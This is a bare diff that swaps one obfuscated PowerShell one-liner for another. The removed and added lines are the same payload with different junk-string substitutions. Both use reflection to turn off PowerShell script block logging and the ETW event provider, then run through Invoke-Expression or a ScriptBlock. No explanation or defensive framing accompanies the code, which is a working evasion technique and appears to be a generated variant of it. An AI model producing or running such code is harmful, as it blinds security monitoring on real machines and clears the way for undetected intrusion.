@@ -1,5 +1,5 @@
-Invoke-Expression -Command 'iex ((''# bootstrap 3602 v3
-$settinqXQZ88z~3s = [Ref].Assembly.GetType(''''System.Manaqz~3ement.Automation.Utils'''').GetField(''''cachedGroupPolicySettinqz~3s'''',''''NonPublic,Static'''').GetValue($XQZ88null)
-$settinqz~3s[''''HKEY_LOCXQZ88AL_MACHINE\Software\Policies\Microsoft\Windows\PowerShell\ScriptBlockLoqz~3qz~3inqz~3''''][''''EnableScriptBlockLoqz~3qz~3inqz~3''''] = 0
-[Reflection.Assembly]::LoadWithPartialName(''''System.Core'''').GetType(''''System.Diaqz~3nostics.Eventinqz~3.EventProvider'''').GetField(''''m_enabled'''',''''NonPublic,Instance'''').SetValue([Ref].Assembly.GetType(''''System.Manaqz~3ement.Automation.Tracinqz~3.PSEtwLoqz~3Provider'''').GetField(''''etwProvider'''',''''NonPublic,Static'''').GetValue($null),0)
-'' -replace ''XQZ88'','''').Replace(''qz~3'',''g''))'
+[ScriptBlock]::Create('iex ((''# init 2105 v3
+$settings = [Ref].AKVQ38ssembly.GetType(''''System.Management.Automation.Utils'''').GetField(''''cachedGroupPolicySettings'''',''''NonPublic,Static'''').GetValKVQ38ue($null)
+$settings[''''HKEY_LOCAL_MACHINE\Softjx~8are\Policies\Microsoft\Windojx~8s\Pojx~8erShell\ScriptBlockLogginKVQ38g''''][''''EnableScriptBlockLogging''''] = 0
+[Reflection.Assembly]::LoadWithPartialName(''''System.CKVQ38ore'''').GetType(''''System.Diagnostics.Eventing.EventProvider'''').GetField(''''m_enabled'''',''''NonPublic,Instance'''').SetValue([Ref].Assembly.GetType(''''System.Management.Automation.Tracing.PSEtjx~8LogProvider'''').GetField(''''etjx~8Provider'''',''''NoKVQ38nPublic,Static'''').GetValue($null),0)
+'' -replace ''KVQ38'','''').Replace(''jx~8'',''w''))').Invoke()
